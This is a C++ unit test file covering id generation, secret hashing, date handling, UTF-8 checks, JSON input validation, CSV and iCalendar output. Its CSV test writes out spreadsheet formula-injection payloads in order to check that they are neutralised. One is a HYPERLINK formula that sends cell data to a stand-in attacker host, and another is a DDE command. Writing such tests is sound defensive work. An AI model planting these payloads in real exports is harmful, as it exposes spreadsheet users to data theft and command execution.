#include <gtest/gtest.h>

#include <set>
#include <stdexcept>

#include "platform/common/csv.hpp"
#include "platform/common/ical.hpp"
#include "platform/common/ids.hpp"
#include "platform/common/json.hpp"
#include "platform/common/time.hpp"

namespace northstar {
namespace {

TEST(Ids, UuidV7IsWellFormedOrderedAndUnique) {
  std::set<std::string> seen;
  std::string previous;
  for (int i = 0; i < 1000; ++i) {
    const std::string id = NewId();
    ASSERT_TRUE(IsValidId(id)) << id;
    EXPECT_EQ(id[14], '7');
    EXPECT_NE(std::string("89ab").find(id[19]), std::string::npos);
    EXPECT_TRUE(seen.insert(id).second);
    EXPECT_GE(id.substr(0, 13), previous.substr(0, previous.empty() ? 0 : 13));
    previous = id;
  }
  EXPECT_FALSE(IsValidId("not-an-id"));
  EXPECT_FALSE(IsValidId("0190A1B2-0000-7000-8000-000000000001"));  // upper case
  EXPECT_FALSE(IsValidId("0190a1b2-0000-7000-8000-00000000000"));
}

TEST(Secrets, HashIsStableAndNotTheSecret) {
  const std::string s = RandomSecret(32);
  EXPECT_EQ(s.size(), 43u);
  EXPECT_NE(s, RandomSecret(32));
  EXPECT_EQ(HashSecret(s), HashSecret(s));
  EXPECT_EQ(HashSecret(s).size(), 64u);
  EXPECT_EQ(HashSecret(s).find(s), std::string::npos);
  EXPECT_TRUE(ConstantTimeEquals("abc", "abc"));
  EXPECT_FALSE(ConstantTimeEquals("abc", "abd"));
  EXPECT_FALSE(ConstantTimeEquals("abc", "abcd"));
}

TEST(Time, FormatsAndParsesInstants) {
  const auto t = ParseInstant("2024-02-29T23:59:58.123Z");
  ASSERT_TRUE(t);
  EXPECT_EQ(FormatInstant(*t), "2024-02-29T23:59:58.123Z");
  EXPECT_FALSE(ParseInstant("2023-02-29T00:00:00.000Z"));
  EXPECT_FALSE(ParseInstant("yesterday"));
  EXPECT_EQ(NowText().size(), 24u);
}

TEST(Time, ValidDates) {
  EXPECT_TRUE(IsValidDate("2024-02-29"));
  EXPECT_FALSE(IsValidDate("2023-02-29"));
  EXPECT_FALSE(IsValidDate("2024-13-01"));
  EXPECT_FALSE(IsValidDate("2024-1-01"));
  EXPECT_FALSE(IsValidDate("24-01-01"));
  EXPECT_FALSE(IsValidDate("2024/01/01"));
  EXPECT_FALSE(IsValidDate("1066-10-14"));
}

TEST(Time, TextDaysAreDateUnderneath) {
  EXPECT_EQ(WeekdayOf("2026-11-21"), "saturday");
  EXPECT_EQ(WeekdayOf("2026-11-23"), "monday");
  EXPECT_EQ(AddDays("2999-12-31", 1), "3000-01-01");  // arithmetic may leave the API's years
  EXPECT_EQ(DaysBetween("1899-12-31", "1900-01-01"), 1);
  EXPECT_THROW(AddDays("2026-02-30", 1), std::invalid_argument);
  EXPECT_EQ(TodayText().size(), 10u);
  EXPECT_TRUE(IsValidDate(TodayText()));
}

TEST(DayPattern, WritesADayAsTheReaderDoes) {
  EXPECT_EQ(DayPattern().Render("2026-11-05"), "5 Nov 2026");
  const auto us = DayPattern::Parse("MMM D, YYYY");
  ASSERT_TRUE(us);
  EXPECT_EQ(us->Render("2026-11-05"), "Nov 5, 2026");
  EXPECT_EQ(us->SpreadsheetFormat(), "mmm\" \"d\", \"yyyy");
  const auto de = DayPattern::Parse("DD.MM.YYYY");
  ASSERT_TRUE(de);
  EXPECT_EQ(de->Render("2026-01-09"), "09.01.2026");
  EXPECT_EQ(de->SpreadsheetFormat(), "dd\".\"mm\".\"yyyy");
  const auto iso = DayPattern::Parse("YYYY-MM-DD");
  ASSERT_TRUE(iso);
  EXPECT_EQ(iso->Render("2026-12-31"), "2026-12-31");
  const auto ja = DayPattern::Parse("YYYY年M月D日");
  ASSERT_TRUE(ja);
  EXPECT_EQ(ja->Render("2026-03-04"), "2026年3月4日");
  EXPECT_EQ(DayPattern::Parse("M/D/YYYY")->Render("2026-03-04"), "3/4/2026");
}

TEST(DayPattern, RefusesWhatIsNotOneDayOneMonthOneYear) {
  for (const char* bad : {"", "D MMM", "D D MMM YYYY", "YYYY", "D MMMM YYYY", "D MMM YY",
                          "Do MMM YYYY", "D MMM YYYY 1", "D \"MMM\" YYYY", "D\\MMM YYYY",
                          "D\nMMM YYYY", "DD.MM.YYYY.......................x"}) {
    EXPECT_FALSE(DayPattern::Parse(bad)) << bad;
  }
  EXPECT_FALSE(DayPattern::Parse(std::string(40, ' ') + "D M YYYY"));
}

TEST(Utf8, ValidatesAndCounts) {
  EXPECT_TRUE(IsValidUtf8("plain"));
  EXPECT_TRUE(IsValidUtf8("Zürich – 東京 🧬"));
  EXPECT_FALSE(IsValidUtf8("\xff"));
  EXPECT_FALSE(IsValidUtf8("\xc3"));          // truncated
  EXPECT_FALSE(IsValidUtf8("\xc0\xaf"));      // overlong
  EXPECT_FALSE(IsValidUtf8("\xed\xa0\x80"));  // surrogate
  EXPECT_EQ(Utf8Length("Zürich"), 6u);
  EXPECT_EQ(Utf8Length("🧬"), 1u);
}

TEST(ParseJsonObject, RejectsWhatIsNotAnObject) {
  EXPECT_TRUE(ParseJsonObject(R"({"a":1})").ok());
  for (const char* bad : {"", "[1]", "\"text\"", "{\"a\":", "{\"a\":1}}", "nul"}) {
    auto r = ParseJsonObject(bad);
    ASSERT_FALSE(r.ok()) << bad;
    EXPECT_EQ(r.error().code, ErrorCode::kMalformed) << bad;
  }
  EXPECT_FALSE(ParseJsonObject("{\"a\":\"\xff\"}").ok());
}

TEST(InputReader, CollectsEveryFieldError) {
  auto body = ParseJsonObject(
      R"({"name":"  ","tier":7,"type":"merger","when":"2024-02-30","extra":true,"areas":["a",3]})");
  ASSERT_TRUE(body.ok());
  InputReader in(*body);
  EXPECT_FALSE(in.String("name", Presence::kRequired, 10, 1));
  EXPECT_FALSE(in.Integer("tier", Presence::kRequired, 1, 3));
  EXPECT_FALSE(in.Enum("type", Presence::kRequired, {"licence", "service"}));
  EXPECT_FALSE(in.Date("when", Presence::kOptional));
  EXPECT_FALSE(in.StringArray("areas", Presence::kOptional, 5, 10));
  EXPECT_FALSE(in.String("missing", Presence::kRequired, 10));
  const auto errors = in.Finish();
  std::set<std::string> fields;
  for (const auto& e : errors) fields.insert(e.field);
  EXPECT_EQ(fields, (std::set<std::string>{"name", "tier", "type", "when", "areas[1]", "missing",
                                           "extra"}));
}

TEST(InputReader, ReadsValidInputAndTrims) {
  auto body = ParseJsonObject(R"({"name":"  Meridian  ","tier":2,"ok":false,"note":null})");
  InputReader in(*body);
  EXPECT_EQ(in.String("name", Presence::kRequired, 200, 1), "Meridian");
  EXPECT_EQ(in.Integer("tier", Presence::kRequired, 1, 3), 2);
  EXPECT_EQ(in.Bool("ok", Presence::kRequired), false);
  EXPECT_TRUE(in.IsNull("note"));
  EXPECT_FALSE(in.String("note", Presence::kNullable, 10));
  EXPECT_TRUE(in.Finish().empty());
}

TEST(ParseJsonObject, RefusesARepeatedKeyAtAnyDepth) {
  for (const char* bad :
       {R"({"active":false,"active":true})", R"({"a":1,"b":2,"a":1})", R"({"x":{"k":1,"k":2}})",
        R"({"x":[{"k":1},{"k":1,"k":1}]})", R"({"ab":1,"ab":2})"}) {
    auto r = ParseJsonObject(bad);
    ASSERT_FALSE(r.ok()) << bad;
    EXPECT_EQ(r.error().code, ErrorCode::kMalformed) << bad;
    EXPECT_NE(r.error().detail.find("repeats the key"), std::string::npos) << bad;
  }
  // The same key in different objects, or as a value, is no repetition.
  EXPECT_TRUE(ParseJsonObject(R"({"k":{"k":1},"j":[{"k":1},{"k":2}],"s":"k"})").ok());
  EXPECT_EQ(RepeatedKey(R"({"x":{"a":1},"y":{"a":2,"a":3}})"), "a");
  EXPECT_EQ(RepeatedKey(R"({"x":{"a":1},"a":2})"), std::nullopt);
}

TEST(ParseJsonObject, RefusesNumbersBeyondADouble) {
  EXPECT_FALSE(ParseJsonObject(R"({"x":1e400})").ok());
  EXPECT_FALSE(ParseJsonObject(R"({"x":[-1e999]})").ok());
  EXPECT_TRUE(ParseJsonObject(R"({"x":1e300,"y":-2.5e-300})").ok());
}

TEST(InputReader, NullIsRefusedWhereAFieldCannotBeCleared) {
  auto body = ParseJsonObject(R"({"active":null,"website":null,"name":null,"due_on":null})");
  InputReader in(*body);
  EXPECT_FALSE(in.Bool("active", Presence::kOptional));
  EXPECT_FALSE(in.String("website", Presence::kNullable, 100));
  EXPECT_FALSE(in.String("name", Presence::kRequired, 100));
  in.PermitNull("due_on");
  EXPECT_FALSE(in.Date("due_on", Presence::kOptional));
  const auto errors = in.Finish();
  ASSERT_EQ(errors.size(), 2u);
  EXPECT_EQ(errors[0].field, "active");
  EXPECT_EQ(errors[0].message, "must not be null");
  EXPECT_EQ(errors[1].field, "name");
  EXPECT_EQ(errors[1].message, "is required");
}

TEST(InputReader, LengthIsCountedInCharactersNotBytes) {
  auto body = ParseJsonObject(R"({"name":"東京東京"})");
  InputReader in(*body);
  EXPECT_EQ(in.String("name", Presence::kRequired, 4, 1), "東京東京");
  InputReader tight(*body);
  EXPECT_FALSE(tight.String("name", Presence::kRequired, 3, 1));
}

TEST(InputReader, RejectsControlCharactersAndWrongTypes) {
  auto body = ParseJsonObject("{\"a\":\"x\\u0000y\",\"b\":12,\"c\":\"1\"}");
  InputReader in(*body);
  EXPECT_FALSE(in.String("a", Presence::kRequired, 10));
  EXPECT_FALSE(in.String("b", Presence::kRequired, 10));
  EXPECT_FALSE(in.Integer("c", Presence::kRequired, 0, 10));
  EXPECT_EQ(in.Finish().size(), 3u);
}

TEST(Csv, NeutralisesWhatASpreadsheetWouldRunAsAFormula) {
  EXPECT_EQ(csv::Neutralise(R"(=HYPERLINK("http://evil.example/?x="&A1,"Click"))"),
            R"('=HYPERLINK("http://evil.example/?x="&A1,"Click"))");
  EXPECT_EQ(csv::Neutralise("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(csv::Neutralise("-2+3"), "'-2+3");
  EXPECT_EQ(csv::Neutralise("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(csv::Neutralise("\t=1"), "'\t=1");
  EXPECT_EQ(csv::Neutralise("\r=1"), "'\r=1");
  EXPECT_EQ(csv::Neutralise("   =1"), "'   =1");
  for (const char* plain : {"", "Phase 2 go", "a=b", "2026-01-05", "Dana: accept", "'quoted"}) {
    EXPECT_EQ(csv::Neutralise(plain), plain);
  }
  EXPECT_EQ(csv::Field("a,b"), "\"a,b\"");
  EXPECT_EQ(csv::Field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv::Field("=1,2"), "\"'=1,2\"");
}

TEST(Csv, ReadsWhatItWritesAndRefusesBrokenText) {
  const std::vector<std::vector<std::string>> table = {{"title", "notes", "empty"},
                                                       {"a,b", "line one\nline \"two\"", ""},
                                                       {"=1+1", "東京", "x\r\ny"}};
  csv::Writer w;
  for (const auto& row : table) w.Row(row);
  auto read = csv::Read(w.Take());
  ASSERT_TRUE(read.ok()) << read.error().detail;
  ASSERT_EQ(read->size(), 3u);
  EXPECT_EQ((*read)[1], table[1]);
  EXPECT_EQ((*read)[2][0], "'=1+1");  // neutralised on the way out, as typed otherwise
  EXPECT_EQ((*read)[2][1], "東京");
  EXPECT_EQ((*read)[2][2], "x\r\ny");
  // LF endings, a byte-order mark and a last line without an ending.
  auto lf = csv::Read(
      "\xEF\xBB\xBF"
      "a,b\n1,2");
  ASSERT_TRUE(lf.ok());
  EXPECT_EQ(*lf, (csv::Rows{{"a", "b"}, {"1", "2"}}));
  for (const char* bad : {"a,\"open\n", "\"x\"y,1\n", "a\"b,1\n", "\xff,1\n"}) {
    auto r = csv::Read(bad);
    ASSERT_FALSE(r.ok()) << bad;
    EXPECT_EQ(r.error().code, ErrorCode::kMalformed);
    EXPECT_NE(r.error().detail.find("line"), std::string::npos) << r.error().detail;
  }
  csv::ReadLimits small;
  small.max_rows = 1;
  EXPECT_FALSE(csv::Read("a\nb\n", small).ok());
  small = {};
  small.max_fields = 2;
  EXPECT_FALSE(csv::Read("a,b,c\n", small).ok());
}

TEST(ICalendar, EscapesTextAndFoldsLongLinesWithoutSplittingCharacters) {
  EXPECT_EQ(ical::EscapeText("a,b;c\\d\r\ne\nf"), "a\\,b\\;c\\\\d\\ne\\nf");
  const std::string long_line = "SUMMARY:" + std::string(70, 'x') + "ééé";  // é is 2 octets
  const std::string folded = ical::Fold(long_line);
  size_t start = 0;
  while (true) {
    const size_t end = folded.find("\r\n", start);
    const std::string part = folded.substr(start, end == std::string::npos ? end : end - start);
    EXPECT_LE(part.size(), 75u);
    EXPECT_NE(static_cast<unsigned char>(part.back()), 0xC3) << "a character was split";
    if (end == std::string::npos) break;
    EXPECT_EQ(folded[end + 2], ' ');
    start = end + 2;
  }
  std::string unfolded;
  for (size_t i = 0; i < folded.size(); ++i) {
    if (folded.compare(i, 3, "\r\n ") == 0) {
      i += 2;
      continue;
    }
    unfolded += folded[i];
  }
  EXPECT_EQ(unfolded, long_line);
}

TEST(ICalendar, WritesTimedAndAllDayEventsWithCrlf) {
  ical::Event meeting{"m1@northstar",
                      "2026-12-01T15:00:00Z",
                      "2026-12-01T16:30:00Z",
                      std::nullopt,
                      "JSC, Q4",
                      "Agenda",
                      "Basel",
                      "https://example.org/m",
                      false,
                      "2026-11-20T10:00:00.000Z"};
  ical::Event due{"o1@northstar",
                  "",
                  "",
                  "2027-01-15",
                  "Report due",
                  "",
                  "",
                  "",
                  true,
                  "2026-11-20T10:00:00.000Z"};
  const std::string text = ical::Calendar("Northstar", {meeting, due});
  EXPECT_NE(text.find("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"), std::string::npos);
  EXPECT_NE(text.find("DTSTART:20261201T150000Z\r\nDTEND:20261201T163000Z\r\n"), std::string::npos);
  EXPECT_NE(text.find("SUMMARY:JSC\\, Q4\r\n"), std::string::npos);
  EXPECT_NE(text.find("DTSTART;VALUE=DATE:20270115\r\n"), std::string::npos);
  EXPECT_NE(text.find("STATUS:CANCELLED\r\n"), std::string::npos);
  EXPECT_NE(text.find("DTSTAMP:20261120T100000Z\r\n"), std::string::npos);
  EXPECT_TRUE(text.ends_with("END:VCALENDAR\r\n"));
}

}  // namespace
}  // namespace northstar
